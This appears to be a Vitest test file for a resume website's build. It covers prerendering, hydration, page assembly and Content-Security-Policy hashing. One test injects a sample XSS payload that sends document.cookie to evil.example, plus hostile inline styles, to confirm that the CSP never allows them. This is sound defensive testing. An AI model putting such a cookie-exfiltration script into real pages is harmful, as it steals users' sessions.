// @vitest-environment jsdom
import "./setup-dom";
import { createHash } from "node:crypto";
// biome-ignore lint/correctness/noUndeclaredDependencies: @generated is the site's Vite alias (scripts/vite/vite-config.ts), not a package
import compiled from "@generated/content.json";
import { act } from "react";
import type { Rolldown } from "vite";
import { afterEach, describe, expect, test, vi } from "vitest";
import { attributeValue } from "../../scripts/lib/html-text";
import { linkResumePdf } from "../../scripts/pdf/pdf";
import { ACCORDION_PANEL_STYLE, allowInlineCode, appStyleAttributes } from "../../scripts/vite/inline-code";
import {
  assemblePage,
  injectMarkup,
  inlineStylesheets,
  leadPicturePreloads,
  nameScreens,
} from "../../scripts/vite/page-assembly";
import { renderPage } from "../../src/entry-server";
import type { SiteContent } from "../../src/shared/compiled-content";
import { PAGE_DATA_ID, type PageData, readPageData } from "../../src/shared/page-data";
import { RESUME_PDF, RESUME_PDF_TEMPLATE, RESUME_TEXT, RESUME_WORD } from "../../src/shared/paths";
import { ENGLISH_WORDS, scriptWords } from "../../src/shared/words";
import { fullContent } from "../full-content";

const content = fullContent(compiled as SiteContent);
const { profile, experience, education, projects, about } = content;

// What Testing Library's render sets: this test hydrates with React's own API.
(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

afterEach(() => {
  vi.restoreAllMocks();
  document.body.replaceChildren();
});

/** index.html as Vite and the plugins hand it to the prerender, in short. */
const TEMPLATE = `<html><head>
    <meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'" />
    <script id="before-paint">
run();
</script>
    <script type="module" crossorigin src="./assets/index-abc.js"></script>
    <link rel="stylesheet" crossorigin href="./assets/index-abc.css">
  </head><body><div id="root"></div></body></html>`;

const asset = (fileName: string, source: string) =>
  ({ type: "asset", fileName, source }) as unknown as Rolldown.OutputAsset;
const chunk = (fileName: string, code: string) =>
  ({ type: "chunk", fileName, code }) as unknown as Rolldown.OutputChunk;
const stylesheet = () => ({ "assets/index-abc.css": asset("assets/index-abc.css", "a{color:red}\n") });

/** The prerendered page's body, as the build assembles dist/index.html. */
function prerenderedBody(): string {
  return assemblePage(TEMPLATE, renderPage(), stylesheet())
    .replace(/^[\s\S]*<body>/, "")
    .replace(/<\/body>[\s\S]*$/, "");
}

const textOf = (html: string) => new DOMParser().parseFromString(html, "text/html").body.textContent ?? "";

describe("the prerendered page", () => {
  test("holds no style attribute but those the CSP allows the app by construction", () => {
    const { app, sheets, page } = renderPage();
    const attributes = [...`${app}${sheets}`.matchAll(/\sstyle="([^"]*)"/g)].map(([, value]) =>
      attributeValue(value ?? ""),
    );
    expect(attributes.length).toBeGreaterThan(0);
    const allowed = new Set(appStyleAttributes(page));
    expect(attributes.filter((value) => !allowed.has(value))).toEqual([]);
  });

  test("holds every screen: the resume, the projects, the About page and Not Found", () => {
    const { app } = renderPage();
    const page = new DOMParser().parseFromString(app, "text/html");
    expect(page.querySelector('[data-screen="resume"] h1')?.textContent).toBe(profile.name);
    const text = page.body.textContent ?? "";
    expect(text).toContain(profile.label);
    // Markdown arrives as HTML, written into the page as it is.
    expect(app).toContain(profile.summaryHtml);
    for (const job of experience) for (const role of job.roles) expect(text).toContain(role.position);
    for (const project of projects) expect(text).toContain(project.title);
    expect(page.querySelector('[data-screen="about"] h1')?.textContent).toBe(about.title);
    for (const section of about.sections) expect(text).toContain(section.heading);
    expect(page.querySelector('[data-screen="not-found"] h1')?.textContent).toBe("Page not found");
  });

  test("holds what the accordions keep closed: every hard skill and every course", () => {
    const text = textOf(renderPage().app);
    for (const group of profile.hardSkills)
      for (const list of group.lists) for (const item of list.items) expect(text).toContain(item);
    for (const school of education)
      for (const group of school.courses ?? [])
        for (const course of group.courses) expect(text).toContain(course.title);
  });

  test("holds each project's dialog, hidden, with its overview and every achievement", () => {
    const { sheets } = renderPage();
    const page = new DOMParser().parseFromString(sheets, "text/html");
    for (const project of projects) {
      const sheet = page.querySelector(`[data-project-sheet="${project.id}"]`);
      expect(sheet?.hasAttribute("hidden")).toBe(true);
      expect(sheet?.querySelector("h2")?.textContent).toBe(project.title);
      expect(sheet?.innerHTML).toContain(project.descriptionHtml);
      for (const achievement of project.achievements) expect(sheet?.textContent).toContain(achievement.title);
      expect(sheet?.querySelectorAll("[data-slot=carousel-item] img")).toHaveLength(project.images.length);
    }
  });

  test("writes links as the client's hash router does", () => {
    const { app } = renderPage();
    expect(app).toContain('href="#/projects"');
    expect(app).not.toContain('href="/projects"');
  });

  test("carries the ids and titles the app needs, and no more of the content", () => {
    const body = prerenderedBody();
    document.body.innerHTML = body;
    const data = readPageData(document);
    expect(data?.projects.map((project) => project.id)).toEqual(projects.map((project) => project.id));
    const json = document.getElementById(PAGE_DATA_ID)?.textContent ?? "";
    expect(json).not.toContain(profile.label);
    for (const job of experience) expect(json).not.toContain(job.company);
  });

  test("holds the link to the PDF inert in a template, until npm run pdf takes it out", () => {
    const built = new DOMParser().parseFromString(prerenderedBody(), "text/html");
    // Nothing links to a PDF that may not exist: the template's content is not in the page.
    expect(built.querySelector(`a[href="${RESUME_PDF}"]`)).toBeNull();
    const template = built.querySelector<HTMLTemplateElement>(
      `.banner-links > template#${RESUME_PDF_TEMPLATE}`,
    );
    expect(template?.content.querySelector("a")?.textContent).toBe(content.site.words.resumePdf);

    const linked = new DOMParser().parseFromString(linkResumePdf(prerenderedBody()) ?? "", "text/html");
    expect(linked.querySelector(`template#${RESUME_PDF_TEMPLATE}`)).toBeNull();
    const link = linked.querySelector(`.banner-links > a[href="${RESUME_PDF}"]`);
    expect(link?.textContent).toBe(content.site.words.resumePdf);
    expect(link?.getAttribute("type")).toBe("application/pdf");
  });

  test("links to the resume as plain text and as a Word file beside the PDF, in the page's words", () => {
    const built = new DOMParser().parseFromString(prerenderedBody(), "text/html");
    const links = [...built.querySelectorAll(".banner-links > a.resume-file-link")].map((link) => ({
      href: link.getAttribute("href"),
      type: link.getAttribute("type"),
      text: link.textContent,
    }));
    expect(links).toEqual([
      { href: RESUME_TEXT, type: "text/plain", text: content.site.words.resumeText },
      {
        href: RESUME_WORD,
        type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        text: content.site.words.resumeWord,
      },
    ]);
  });

  // The built site's browser has no content: only the page. Every address hydrates it, and the
  // page that links to its PDF as well.
  const addresses = [
    { hash: "#/", screen: "resume" },
    { hash: "#/projects", screen: "projects" },
    { hash: "#/about", screen: "about" },
    { hash: "#/nowhere", screen: "not-found" },
    { hash: "#/", screen: "resume", pdf: true },
    // A place on the Resume, where the skip link leads before the app runs: #/ for the router.
    { hash: "#main", screen: "resume" },
  ];
  for (const { hash, screen, pdf } of addresses) {
    const name = `hydrates at ${hash}${pdf ? ", with the link to the PDF," : ""} from the page's own markup, without a warning or a new node`;
    test(name, async () => {
      const errors = vi.spyOn(console, "error");
      const warnings = vi.spyOn(console, "warn");
      document.body.innerHTML = pdf ? (linkResumePdf(prerenderedBody()) ?? "") : prerenderedBody();
      const root = document.getElementById("root");
      if (!root) throw new Error("no #root");
      const headings = [...root.querySelectorAll("h1")];
      const summary = root.querySelector('[data-static="profile"] [data-slot=prose]');
      await new Promise<void>((resolve) => {
        if (window.location.hash === hash) resolve();
        window.addEventListener("hashchange", () => resolve(), { once: true });
        window.location.hash = hash;
      });
      // Each test is a page loading the app afresh: no markup an earlier one kept lingers.
      vi.resetModules();
      const { startApp } = await import("../../src/start");

      const app = await act(async () => startApp(document));
      if (!app) throw new Error("the app did not start on the built page");

      expect(errors).not.toHaveBeenCalled();
      expect(warnings).not.toHaveBeenCalled();
      // Hydration adopted the server's nodes, the content's among them, instead of new ones.
      expect([...root.querySelectorAll("h1")]).toEqual(headings);
      expect(root.querySelector('[data-static="profile"] [data-slot=prose]')).toBe(summary);
      // The screen the address names shows; the others are hidden.
      const shown = [...root.querySelectorAll<HTMLElement>("[data-screen]")].filter(
        (element) => !element.hidden,
      );
      expect(shown.map((element) => element.dataset.screen)).toEqual([screen]);
      expect(document.documentElement.dataset.showing).toBe(screen);
      expect(window.location.hash).toBe(hash.startsWith("#/") ? hash : "#/");
      expect(root.querySelectorAll(`a[href="${RESUME_PDF}"]`)).toHaveLength(pdf ? 1 : 0);
      act(() => app.unmount());
    });
  }
});

describe("putting the markup into index.html", () => {
  const page = TEMPLATE;
  const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

  const pageData: PageData = {
    name: "A",
    skillGroups: [],
    schools: [],
    projects: [],
    screens: ["resume"],
    layout: { side: [], main: [], phone: [] },
    words: scriptWords(ENGLISH_WORDS),
    dir: "ltr",
  };

  test("moves React's resource hints into <head>, the app into #root, the sheets after it", () => {
    const html = injectMarkup(page, {
      app: '<link rel="preload" as="image" href="a.avif"/><main>Hi</main>',
      sheets: '<div id="project-sheets"></div>',
      page: pageData,
    });
    expect(html).toMatch(/<link rel="preload" as="image" href="a.avif"\/>\s*<\/head>/);
    expect(html).toContain('<div id="root"><main>Hi</main></div><div id="project-sheets"></div>');
    expect(html).toContain(
      `<script type="application/json" id="page-data">${JSON.stringify(pageData)}</script>`,
    );
  });

  test("puts markup in as it is, replacement patterns ($&, $') included", () => {
    const app = `<link rel="preload" as="image" href="images/$&amp;$'.avif"/><main>Costs $& and $' and $$</main>`;
    const html = injectMarkup(page, {
      app,
      sheets: "<p>$'</p>",
      page: { ...pageData, name: "$& </script>" },
    });
    expect(html).toContain(`<link rel="preload" as="image" href="images/$&amp;$'.avif"/>`);
    expect(html).toContain("<div id=\"root\"><main>Costs $& and $' and $$</main></div><p>$'</p>");
    // No text ends the page data's <script> early.
    expect(html).toContain('"name":"$& \\u003c/script>"');
  });

  test("inlines the stylesheet and drops its file, unless a script still loads it", () => {
    const bundle: Rolldown.OutputBundle = {
      "assets/index-abc.css": asset("assets/index-abc.css", "a{color:red}\n"),
    };
    const html = inlineStylesheets(page, bundle);
    expect(html).toContain("<style>a{color:red}</style>");
    expect(html).not.toContain("index-abc.css");
    expect(bundle).toEqual({});

    const kept: Rolldown.OutputBundle = {
      "assets/index-abc.css": asset("assets/index-abc.css", "a{color:red}"),
      "assets/lazy.js": chunk("assets/lazy.js", 'preload("assets/index-abc.css")'),
    };
    inlineStylesheets(page, kept);
    expect(Object.keys(kept)).toContain("assets/index-abc.css");
  });

  test("refuses to inline a stylesheet whose relative URLs would break", () => {
    const bundle: Rolldown.OutputBundle = {
      "assets/index-abc.css": asset("assets/index-abc.css", "@font-face{src:url(./font.woff2)}"),
    };
    expect(() => inlineStylesheets(page, bundle)).toThrow(/refers to files/);
  });

  test("tells the before-paint script the screens the site has; the app's entry stays a module script", () => {
    const html = nameScreens(page, ["resume", "about"]);
    expect(html).toContain('<script id="before-paint" data-screens="resume about">');
    expect(html).toContain('<script type="module" crossorigin src="./assets/index-abc.js"></script>');
    expect(() => nameScreens(page.replace('<script id="before-paint">', "<script>"), ["resume"])).toThrow(
      /no <script id="before-paint">/,
    );
  });

  test("puts a preload of each screen's lead picture, its first source's, in a template before the before-paint script", () => {
    const app = `<div data-screen="resume"><picture><source type="image/avif" srcset="me.avif 1x"/><img src="me.webp" loading="lazy"/></picture></div>
<div data-screen="projects"><ul><li><picture><source type="image/avif" srcset="a.480w.avif 480w, a.960w.avif 960w" sizes="(min-width: 640px) 354px, 100vw"/><source type="image/webp" srcset="a.960w.webp 960w"/><img src="a.960w.webp" loading="lazy" fetchpriority="high"/></picture></li></ul></div>
<div data-screen="about"><img src="b&amp;c.svg" loading="lazy" fetchpriority="high"/></div>`;
    const html = leadPicturePreloads(page.replace('<div id="root"></div>', `<div id="root">${app}</div>`));
    const template = html.match(
      /<template id="lead-pictures">(.*?)<\/template>\s*<script id="before-paint">/,
    )?.[1];
    expect(template).toBe(
      '<link rel="preload" as="image" fetchpriority="high" data-screen="projects" type="image/avif" imagesrcset="a.480w.avif 480w, a.960w.avif 960w" imagesizes="(min-width: 640px) 354px, 100vw">' +
        '<link rel="preload" as="image" fetchpriority="high" data-screen="about" href="b&amp;c.svg">',
    );
    // A page whose screens ask for no picture first has none.
    expect(leadPicturePreloads(page)).toBe(page);
  });

  test("assembles the page as the build does, allowing the inline code the build writes, by hash, and nothing else", () => {
    // The app's markup as it would be if content escaped sanitising: a script, a style element
    // and a style attribute beside the ones the app renders itself.
    const injected = {
      script: "fetch('https://evil.example/'+document.cookie)",
      style: "body{display:none}",
      attribute: "background:url(https://evil.example/)",
    };
    const layout = { side: ["profile"], main: ["experience"], phone: ["profile", "experience"] };
    // index.html as Vite and the plugins emit it: the before-paint script, the accent, JSON-LD.
    const template = page.replace(
      "</head>",
      '<style id="accent">:root{--accent:#0f766e}</style><script type="application/ld+json">{}</script></head>',
    );
    const bundle: Rolldown.OutputBundle = stylesheet();
    const html = assemblePage(
      template,
      {
        app: `<main><div style="--phone-order:0;--paper-order:0"><p>Hi</p><script>${injected.script}</script><style>${injected.style}</style></div><div style="--phone-order:1;--paper-order:1"><p style="${injected.attribute}">x</p><div style="${ACCORDION_PANEL_STYLE}"></div></div></main>`,
        sheets: "",
        page: { ...pageData, layout, screens: ["resume", "about"] },
      },
      bundle,
    );
    // The markup in #root, the stylesheet inlined and its file gone, the screens named.
    expect(html).toContain('<div id="root"><main><div style="--phone-order:0;--paper-order:0"><p>Hi</p>');
    expect(html).toContain("<style>a{color:red}</style>");
    expect(html).not.toContain("index-abc.css");
    expect(bundle).toEqual({});
    expect(html).toContain('<script id="before-paint" data-screens="resume about">');
    const policy = /content="([^"]*)"/.exec(html)?.[1] ?? "";
    expect(policy).toContain(`script-src 'self' ${sha256("\nrun();\n")};`);
    expect(policy).toContain(
      `style-src 'self' 'unsafe-hashes' ${sha256("a{color:red}")} ${sha256(":root{--accent:#0f766e}")} ${sha256("--phone-order:0;--paper-order:0")} ${sha256("--phone-order:1;--paper-order:1")} ${sha256(ACCORDION_PANEL_STYLE)};`,
    );
    for (const code of Object.values(injected)) expect(policy).not.toContain(sha256(code));
    // The JSON-LD is data, not code: the policy needs no hash for it.
    expect(policy).not.toContain(sha256("{}"));
    // Nothing inline, nothing allowed.
    const bare = page.replace(/<script id="before-paint">[\s\S]*?<\/script>/, "");
    expect(allowInlineCode(bare, { scripts: ["\nrun();\n"], styles: [], styleAttributes: [] })).toBe(bare);
  });
});
